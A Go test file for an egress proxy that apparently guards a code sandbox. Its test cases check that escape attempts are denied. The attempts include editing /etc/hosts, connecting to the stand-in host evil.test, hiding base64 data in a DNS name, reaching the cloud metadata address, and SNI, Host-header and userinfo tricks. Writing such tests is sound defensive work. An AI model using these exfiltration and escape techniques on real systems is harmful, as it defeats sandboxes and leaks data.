package proxy_test

import (
	"errors"
	"fmt"
	"net"
	"strings"
	"testing"

	"github.com/securebench/sbench/proxy"
)

// datagram is code that sends to an address and waits for an answer.
func datagram(family, address string) string {
	return "import socket\ns = socket.socket(socket." + family + ", socket.SOCK_DGRAM)\ns.settimeout(2)\ns.connect(" + address + ")\ns.send(b'x')\nresult = 'reached ' + repr(s.recv(100))"
}

// TestNamespace: an entry in /etc/hosts is no way around the proxy, and after the proxy's end there is no way out.
// That a sandbox can open no other kinds of sockets, and reaches nothing outside its namespace, is shown by
// TestProbe and TestProbeCalls of package sandbox.
func TestNamespace(t *testing.T) {
	w := newWorld(t)
	p, log := w.startProxy(proxy.Config{})
	s := newSandbox(t, p, false)
	got := s.ask(ask{Code: "open('/etc/hosts', 'a').write('127.0.0.1 allowed.test\\n')\nresult = 'written'"})
	t.Logf("writing /etc/hosts: %s", got)
	row{ask: connect("evil.test:443", nil), log: []string{"connect deny host_not_allowed"}}.run(t, w, s, log)
	p.Close()
	if got := s.ask(connect("allowed.test:443", nil)); !strings.Contains(got, "Connection refused") {
		t.Errorf("there is still a way out: %s", got)
	}
	if _, err := s.sockets.TCP[0].Accept(); !errors.Is(err, net.ErrClosed) {
		t.Errorf("the listener is open: %v", err)
	}
	if err := p.Serve(s.sockets.TCP[0]); !errors.Is(err, proxy.ErrClosed) {
		t.Errorf("a closed proxy serves: %v", err)
	}
}

// TestTransparent makes attempts as programs do that do not know the proxy.
func TestTransparent(t *testing.T) {
	w := newWorld(t)
	p, log := w.startProxy(proxy.Config{Allowed: proxy.Allowlist{Domains: domains(t, "allowed.test")}})
	s := newSandbox(t, p, true)
	// look resolves a name in the sandbox and returns its address.
	look := func(name string) string {
		s.t = t
		got := s.ask(ask{Code: "import socket\nresult = socket.gethostbyname(" + fmt.Sprintf("%q", name) + ")"})
		if e := log.next(t); words(e) != "dns allow" || e.Host != name {
			t.Fatalf("%+v", e)
		}
		_, address, _ := strings.Cut(strings.TrimSuffix(strings.TrimSpace(got), `"}`), `: "`)
		return address
	}
	one, two := look("allowed.test"), look("two.allowed.test")
	if again := look("allowed.test"); again != one || one == two || !strings.HasPrefix(one, "198.18.") {
		t.Fatalf("addresses %q, %q, %q", one, two, again)
	}
	to := func(address string, port int, a ask) ask {
		a.To = []any{address, port}
		return a
	}
	tls := func(sni *string) ask { return ask{TLS: &askTLS{SNI: sni, Host: "allowed.test"}} }
	allowed, evil, second := "allowed.test", "evil.test", "two.allowed.test"
	rows := []row{
		{name: "TLS", ask: to(one, 443, tls(&allowed)), log: []string{"transparent allow"}, reached: []string{public + ":443"}, answer: "HIT host=allowed.test sni=allowed.test"},
		{name: "TLS in single bytes", ask: to(two, 443, ask{TLS: &askTLS{SNI: &second, Host: second, Split: true}}), log: []string{"transparent allow"}, reached: []string{public + ":443"}, answer: "HIT host=two.allowed.test"},
		{name: "TLS for another host", ask: to(one, 443, tls(&evil)), log: []string{"transparent deny sni_mismatch"}, answer: "ACCESS_DENIED"},
		{name: "TLS for another host that is allowed", ask: to(one, 443, tls(&second)), log: []string{"transparent deny sni_mismatch"}, answer: "ACCESS_DENIED"},
		{name: "TLS without a name", ask: to(one, 443, tls(nil)), log: []string{"transparent deny sni_missing"}, answer: "ACCESS_DENIED"},
		{name: "plain HTTP on 443", ask: to(one, 443, get("GET / HTTP/1.1", "Host: allowed.test")), log: []string{"transparent deny not_tls"}},
		{name: "plain HTTP", ask: to(one, 80, get("GET /x HTTP/1.1", "Host: allowed.test", "Connection: close")), log: []string{"transparent allow"}, reached: []string{public + ":80"}, answer: "HIT host=allowed.test"},
		{name: "a second host on the same connection", ask: to(one, 80, ask{Send: []string{"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"}, Responses: 2}),
			log: []string{"transparent allow", "transparent deny host_mismatch"}, reached: []string{public + ":80"}, answer: "host_mismatch"},
		{name: "not HTTP", ask: to(one, 80, ask{Send: []string{"SSH-2.0-x\r\n\r\n"}, Responses: 1}), log: []string{"malformed deny malformed_request"}, answer: "malformed_request"},
		{name: "another port", ask: to(one, 22, ask{Send: []string{"x"}, Responses: 1}), log: []string{"transparent deny port_not_allowed"}},
		{name: "an address that nobody asked for", ask: to("198.18.200.200", 443, tls(&allowed)), log: []string{"transparent deny ip_literal"}, address: "198.18.200.200"},
		{name: "the listener itself", ask: to("127.0.0.1", s.sockets.Redirected.Addr().(*net.TCPAddr).Port, tls(&allowed)), log: []string{"transparent deny ip_literal"}, address: "127.0.0.1"},
		{name: "a whole URL", ask: to(one, 80, get("GET http://allowed.test/ HTTP/1.1", "Host: evil.test")), log: []string{"transparent allow"}, reached: []string{public + ":80"}, answer: "HIT host=allowed.test"},
	}
	for _, r := range []struct{ line, host, reason string }{
		{"GET /", "two.allowed.test", "host_mismatch"},
		{"GET /", "allowed.test:443", "host_mismatch"},
		{"GET /", "allowed.test:x", "host_mismatch"},
		{"GET /", "", "host_mismatch"},
		{"GET /", "169.254.169.254", "ip_literal"},
		{"GET http://evil.test/", "allowed.test", "host_mismatch"},
		{"GET https://allowed.test/", "allowed.test", "scheme_not_allowed"},
		{"GET http://evil.test@allowed.test/", "allowed.test", "bad_authority"},
		{"TRACE /", "allowed.test", "method_not_allowed"},
		{"CONNECT allowed.test:443", "allowed.test", "not_a_proxy_request"},
	} {
		rows = append(rows, row{name: r.line + " for " + r.host, ask: to(one, 80, get(r.line+" HTTP/1.1", "Host: "+r.host)), log: []string{"transparent deny " + r.reason}, answer: r.reason})
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			r.run(t, w, s, log)
		})
	}
	s.t = t
}

// TestTransparentNames asks the name server in the sandbox.
func TestTransparentNames(t *testing.T) {
	w := newWorld(t)
	p, log := w.startProxy(proxy.Config{})
	s := newSandbox(t, p, true)
	tests := []struct{ name, code, want, log string }{
		{"another name", "import socket\nsocket.gethostbyname('evil.test')", "Name or service not known", "dns deny host_not_allowed"},
		{"data in a name", "import socket\nsocket.gethostbyname('c2VjcmV0.evil.test')", "Name or service not known", "dns deny host_not_allowed"},
		{"IPv6 alone", "import socket\nsocket.getaddrinfo('allowed.test', 443, socket.AF_INET6)", "No address associated with hostname", "dns allow"},
		{"HTTPS records", dnsCode("allowed.test", 65), `"result": [0, 0]`, "dns allow"},
		{"TXT", dnsCode("allowed.test", 16), `"result": [0, 0]`, "dns allow"},
		{"ANY", dnsCode("allowed.test", 255), `"result": [0, 0]`, "dns allow"},
		{"TXT of another", dnsCode("x.evil.test", 16), `"result": [3, 0]`, "dns deny host_not_allowed"},
		{"a name with a NUL", dnsCode("allowed.test\\0.evil", 1), `"result": [`, "dns deny "},
		{"UDP to the address", "import socket\na = socket.gethostbyname('allowed.test')\n" + datagram("AF_INET", "(a, 443)"), "Connection refused", "dns allow"},
		{"a server of one's own on port 80", "import socket\ns = socket.create_server(('127.0.0.1', 80))\nresult = 'bound'", "bound", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s.t = t
			got := s.ask(ask{Code: tt.code})
			if !strings.Contains(got, tt.want) {
				t.Errorf("got %s, want %s in it", got, tt.want)
			}
			if tt.log == "" {
				return
			}
			if e := log.next(t); !strings.HasPrefix(words(e), tt.log) {
				t.Errorf("log: %+v, want %q", e, tt.log)
			}
		})
	}
	s.t = t
	if _, names := w.takeReached(); len(names) != 0 {
		t.Errorf("the host's name server was asked for %v", names)
	}
}

// dnsCode is code that asks 127.0.0.1 over TCP for records of a type and returns the
// answer's response code and number of records.
func dnsCode(name string, kind int) string {
	return fmt.Sprintf(`import socket, struct
name = b''.join(bytes([len(l)]) + l for l in %q.encode().split(b'.')) + b'\0'
q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('>HH', %d, 1)
s = socket.create_connection(('127.0.0.1', 53), 5)
s.sendall(struct.pack('>H', len(q)) + q)
f = s.makefile('rb')
a = f.read(struct.unpack('>H', f.read(2))[0])
head = struct.unpack('>HHHHHH', a[:12])
result = [head[1] & 15, head[3]]`, name, kind)
}
